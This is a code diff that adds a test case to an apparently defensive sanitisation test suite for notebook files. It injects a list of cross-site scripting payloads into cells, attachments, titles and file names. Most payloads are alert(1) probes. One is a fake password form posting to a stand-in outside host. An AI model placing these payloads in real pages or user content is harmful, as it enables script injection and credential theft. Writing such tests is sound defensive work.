@@ -115,7 +115,42 @@ def _all(notebook):
         change(notebook)
 
 
+_SCRIPTS = (
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "[link](javascript:alert(1))",
+    "<a href=' javascript:alert(1)'>link</a>",
+    "![picture](x' onerror='alert(1))",
+    "<svg onload=alert(1)><style>@import 'http://elsewhere.example/x'</style></svg>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "$\\href{javascript:alert(1)}{x}$",
+    "</div></div><form action='http://elsewhere.example'><input name=password>",
+    "<details ontoggle=alert(1) open>",
+)
+
+
+def _scripts(notebook):
+    """Text cells are the learner's own, and are on no page; names of files and cells are told, and are texts there."""
+    for text in _SCRIPTS:
+        notebook.cells.insert(1, nbformat.v4.new_markdown_cell(text, attachments={text: {"image/svg+xml": text}}))
+        notebook.cells.insert(1, nbformat.v4.new_code_cell(f"# {text}", metadata={"name": text}))
+    notebook.metadata.update(title=_SCRIPTS[1], authors=[{"name": _SCRIPTS[0]}])
+
+
+def _with_scripts(folder, notebook):
+    _scripts(notebook)
+    (folder / "build.ipynb").write_text(json.dumps(notebook), encoding="utf-8")
+    for text in _SCRIPTS:
+        (folder / text.replace("/", "_")).write_text(text)
+
+
 POSING = [
+    Attack(
+        "scripts_everywhere",
+        "Scripts, links and frames in text cells, comments, attachments, titles and names of files.",
+        hands_in=_with_scripts,
+        ways=4 * len(_SCRIPTS),
+    ),
     *(
         posing(f"minor_{minor}", f"Added cells of every kind in a file of format 4.{minor}.", _all, minor, ways=10)
         for minor in (0, 4, 5)
